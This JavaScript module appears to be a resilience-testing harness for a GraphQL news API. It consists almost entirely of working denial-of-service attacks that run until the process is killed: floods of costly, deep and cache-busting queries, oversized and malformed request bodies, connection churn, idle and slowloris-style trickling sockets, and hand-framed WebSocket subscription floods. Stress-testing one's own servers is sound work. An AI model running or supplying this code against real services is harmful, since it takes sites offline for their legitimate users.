// What one client may do to keep a server from the others. Each goes on until its process is ended.
import { once } from 'node:events';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Pool } from 'undici';

const JSON_TYPE = { 'content-type': 'application/json' };

/** Something that the server has not seen yet: no answer that is kept will do. */
let unique = 0;
const fresh = () => `${process.pid}x${unique++}`;

const DEAR = `articles(first: 100) { nodes { headline body section { name }
  entities(first: 20) { nodes { name } } events(first: 20) { nodes { title } } } }`;
const SEARCHES = ['the', 'of', 'in', 'to'].map(
  (word) =>
    `${word}: search(query: "${word} OR and OR Russia OR Syria", first: 100) { totalCount
      edges { highlights { text } node { headline } } }`,
);
const COUNTS = Array.from(
  { length: 15 },
  (_, i) =>
    `c${i}: articles(first: 1, where: { publishedFrom: "20${10 + i}-01-01T00:00:00Z" }) { totalCount }`,
);
const DEEP = `articles(first: 10) { nodes { related(first: 5) { article {
  entities(first: 10) { nodes { timeline(first: 5) { nodes { title } } } } } } } }`;

const operation = (fields) => JSON.stringify({ query: `query Q${fresh()} { ${fields} }` });

/** Bodies by what makes them dear. */
const BODIES = {
  dear: () => operation(DEAR),
  search: () => operation(SEARCHES.join('\n')),
  counts: () => operation(COUNTS.join('\n')),
  deep: () => operation(DEEP),
  // As many tokens as may be, every name of which is wrong.
  invalid: () =>
    operation(
      Array.from({ length: 900 }, (_, i) => `${fresh()}${i}`)
        .join(' ')
        .replaceAll(/\b(?=\d)/g, 'f'),
    ),
  costly: () => operation(DEAR.replace('100', '100, last: 100')),
  garbage: () => `{"query":${'['.repeat(40_000)}${fresh()}`,
  json: () =>
    JSON.stringify({
      query: '{ __typename }',
      variables: { [fresh()]: '[{"a":1}],'.repeat(6000) },
    }),
  cheap: () => JSON.stringify({ query: `query Q${fresh()} { __typename }` }),
};

async function post(pool, body) {
  const { statusCode, body: answer } = await pool.request({
    ...{ method: 'POST', path: '/graphql', headers: JSON_TYPE, body },
  });
  await answer.dump();
  return statusCode;
}

/** Sends one body after the other over each connection. */
const flood =
  (body) =>
  async (origin, { address, connections }) => {
    const pool = new Pool(origin, { connections, localAddress: address });
    await all(connections, async () => {
      for (;;) tally(await post(pool, body()).catch(() => 0));
    });
  };

const get =
  (target) =>
  async (origin, { address, connections }) => {
    const pool = new Pool(origin, { connections, localAddress: address });
    await all(connections, async () => {
      for (;;) {
        const { statusCode, body } = await pool.request({
          method: 'GET',
          path: `${target}?q=${fresh()}`,
        });
        await body.dump();
        tally(statusCode);
      }
    });
  };

/** Opens a connection for every request. */
const churn =
  (body) =>
  (origin, { address, connections }) =>
    all(connections, async () => {
      for (;;) {
        const pool = new Pool(origin, { connections: 1, localAddress: address });
        tally(await post(pool, body()).catch(() => 0));
        await pool.destroy();
      }
    });

/** Opens connections, says on each what it says, and opens another when one is closed. */
const hold =
  (speak) =>
  (origin, { address, connections }) =>
    all(connections, async () => {
      for (;;) {
        const { hostname, port } = new URL(origin);
        const socket = net.connect({ host: hostname, port: Number(port), localAddress: address });
        socket.on('error', () => socket.destroy()).resume();
        const closed = once(socket, 'close').catch(() => undefined);
        void speak(socket);
        await closed;
        tally('closed');
        await sleep(100);
      }
    });

async function trickle(socket) {
  socket.write(
    'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 90000\r\n\r\n',
  );
  for (; !socket.destroyed; await sleep(500)) socket.write('{');
}

const HANDSHAKE =
  'GET /graphql HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n' +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n';

/** A masked text frame; the mask is 0, so the text stands in it as it is. */
function frame(text) {
  const head = Buffer.alloc(8);
  head.writeUInt8(0x81, 0);
  head.writeUInt8(0x80 | 126, 1);
  head.writeUInt16BE(Buffer.byteLength(text), 2);
  return Buffer.concat([head, Buffer.from(text)]);
}

/** Twenty dear queries at once over each socket, again and again. */
async function subscribe(socket) {
  socket.write(HANDSHAKE);
  socket.write(frame('{"type":"connection_init"}'));
  for (; !socket.destroyed; await sleep(50)) {
    const payload = JSON.parse(operation(DEAR));
    socket.write(frame(JSON.stringify({ type: 'subscribe', id: fresh(), payload })));
    tally('sent');
  }
}

const all = (count, run) => Promise.all(Array.from({ length: count }, run));

export const ATTACKS = {
  ...Object.fromEntries(Object.entries(BODIES).map(([name, body]) => [name, flood(body)])),
  churn: churn(BODIES.invalid),
  exports: get('/feed.xml'),
  ready: get('/readyz'),
  idle: hold(() => undefined),
  slow: hold(trickle),
  sockets: hold(subscribe),
};

const counts = {};
function tally(outcome) {
  counts[outcome] = (counts[outcome] ?? 0) + 1;
}

/** How often each status, or other outcome, came so far. */
export const outcomes = () => counts;
